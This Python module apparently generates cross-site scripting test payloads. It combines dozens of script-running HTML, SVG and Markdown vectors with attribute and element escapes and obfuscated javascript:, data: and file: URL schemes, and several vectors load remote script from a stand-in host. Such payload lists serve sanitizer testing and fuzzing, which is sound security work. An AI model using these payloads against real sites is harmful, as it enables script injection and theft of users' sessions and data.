"""Hostile markup, made by combining ways to run a script with ways to get out of where words stand."""

from collections.abc import Iterator

RUN = "alert(7)"

VECTORS = (
    "<script>{run}</script>",
    "<ScRiPt/x>{run}</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}>",
    '<IMG SRC="x" ONERROR="{run}"//',
    "<svg onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><script>{run}</script></svg>",
    "<svg><a xlink:href=javascript:{run}><text y=9>x</text></a></svg>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "<body onload={run}>",
    "<iframe src=javascript:{run}></iframe>",
    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    "<iframe onload={run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<details open ontoggle={run}>x</details>",
    "<marquee onstart={run}>x</marquee>",
    "<style onload={run}></style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css onload={run}>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:{run}">',
    "<a href=javascript:{run} autofocus onfocus={run} tabindex=1>x</a>",
    "<form action=javascript:{run}><button autofocus onfocus={run}>x</button></form>",
    "<div style=animation-name:x onanimationstart={run}>x</div>",
    "<p style='background:url(//evil.example/x.png)'>x</p>",
    "<template><img src=x onerror={run}></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<x contenteditable onblur={run} autofocus onfocus={run}>x",
    "<bsd-message onclick={run}><slot name=x></slot></bsd-message>",
    "<button popovertarget=x onbeforetoggle={run}>x</button><div popover id=x>x</div>",
    "<div hx-get=//evil.example/ hx-trigger=load hx-on:htmx:load={run}>x</div>",
)

ESCAPES = (
    "{}", '">{}', "'>{}", "</p>{}", "</textarea>{}", "</title>{}", "</script>{}", "</style>{}", "--><!-- -->{}", "]]>{}",
    "`{}`", "`` ` ``{}", "> {}", "1. a\n\n   {}", "| a |\n|---|\n| {} |", "[x]({})", '[x](/y "{}")', "![x]({})", "<x@y.example{}>",
    "\\{}", "a\u2028{}", "\ufeff{}", "\x01{}", "{{{{ 7*7 }}}}{}", "${{7*7}}{}",
)  # fmt: skip
"""Ways out of an attribute, an element, Markdown. `{{{{` comes out as two braces."""

SCHEMES = (
    "javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "java\tscript:{run}", "java\nscript:{run}", "java&#x0a;script:{run}",
    "&#106;avascript:{run}", "&#x6A&#x61vascript:{run}", "javascript&colon;{run}", "javascript&#58{run}", "\x01javascript:{run}",
    "%6aavascript:{run}", "javascript://evil.example/%0a{run}", "vbscript:{run}", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={run}>", "blob:null/x", "file:///etc/passwd",
    "//evil.example/", "\\\\evil.example\\", "/\\evil.example", "https:evil.example", "view-source:javascript:{run}", "feed:javascript:{run}",
    "jar:javascript:{run}!/x", "\u0001java\u0000script:{run}", "ｊavascript:{run}", "javascript\u200b:{run}", "https://a.example/\" onmouseover=\"{run}",
)  # fmt: skip
PLACES = (
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    "[x][y]\n\n[y]: {}",
    "![x]({})",
    "{}",
    '<a href="{}">x</a>',
)


def payloads() -> list[str]:
    """Return all combinations: each vector behind each escape in turn, and each scheme in each place."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    for vector in VECTORS:
        for escape in ESCAPES:
            yield escape.format(vector.format(run=RUN))
    for scheme in SCHEMES:
        for place in PLACES:
            yield place.format(scheme.format(run=RUN))


def selected(count: int) -> list[str]:
    """Return some payloads, spread evenly over all."""
    every = payloads()
    return every[:: max(1, len(every) // count)][:count]


def loud() -> list[str]:
    """Return payloads that run by themselves wherever they are put into a page as markup."""
    return [
        escape.format(vector.format(run=RUN))
        for vector in VECTORS
        for escape in ("{}", '">{}', "'>{}", "</textarea></title></script></style>{}")
        if "evil.example" not in vector
    ]


def fits(payload: str, longest: int) -> bool:
    """Whether a payload is a value that a short field takes: no NUL, one line, not too long."""
    return len(payload) <= longest and payload.isprintable() and payload == payload.strip()
